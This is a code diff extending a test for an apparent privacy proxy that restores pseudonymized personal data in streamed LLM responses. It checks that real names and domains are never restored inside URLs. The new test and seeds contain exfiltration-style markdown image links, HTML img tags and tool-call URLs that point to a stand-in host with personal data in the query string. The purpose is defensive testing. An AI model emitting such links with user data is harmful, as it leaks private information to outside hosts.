@@ -31,6 +31,27 @@ def one(data: bytes) -> None:
     whole = attempt(_restore, path, kind, [body])
     parts = attempt(_restore, path, kind, [body[i : i + step] for i in range(0, len(body), step)])
     assert whole == parts, "an answer depends on how its bytes were split"
+    _in_an_address(body, step)
+
+
+def _in_an_address(body: bytes, step: int) -> None:
+    """Nothing is restored behind a stranger's host, wherever the stream is cut."""
+    said = "![](https://e.example/?q=" + "".join(body.decode("utf-8", "replace").split())
+    said = said.replace("<", "") + "Lovrin lovrin@merrow.example"
+    pieces = [said[i : i + step] for i in range(0, len(said), step)]
+    stops = ("stop", None, "", None)
+    events = [
+        {"choices": [{"index": 0, "delta": {"content": one}, "finish_reason": stops[at % 4]}]}
+        for at, one in enumerate(pieces)
+    ]
+    stream = [b"data: " + json.dumps(event).encode() + b"\n\n" for event in events]
+    assert b"firma.de" not in (_restore(_PATHS[0], _TYPES[0], stream))
+    arguments = json.dumps({"url": said.removeprefix("![](")})
+    call = {"function": {"name": "f", "arguments": arguments}}
+    whole = json.dumps({"choices": [{"message": {"tool_calls": [call]}}]}).encode()
+    made = _restore(_PATHS[0], _TYPES[1], [whole])
+    assert b"Anna" not in made or b"Anna" in body
+    assert b"firma.de" not in made or b"firma.de" in body
 
 
 def _restore(path: str, kind: str, chunks: list[bytes]) -> bytes:
@@ -40,12 +61,14 @@ def _restore(path: str, kind: str, chunks: list[bytes]) -> bytes:
 
 def seeds() -> Made:
     said = "Lovrin **lovrin** <lovrin@merrow.example> DE0200012345 ![](https://e.example/?q=Lovrin)"
+    said += " //e.example/Lovrin e.example?Lovrin <img src='Lovrin' alt=\"Lovrin\"> &#47;Lovrin"
     call = {"index": 0, "function": {"name": "f", "arguments": '{"a": "Lov\\u0072in ztoken12'}}
     delta = {"content": said, "tool_calls": [call], "refusal": "Lov"}
     chat = [
         {"choices": [{"index": 0, "delta": delta, "finish_reason": end}]} for end in (None, "stop")
     ]
     blocks = [
+        {"type": "content_block_start", "index": 0, "content_block": {"text": "![](//e/"}},
         {"type": "content_block_delta", "index": 0, "delta": {"text": said}},
         {"type": "content_block_delta", "index": 1, "delta": {"partial_json": '{"a": "ztok'}},
         {
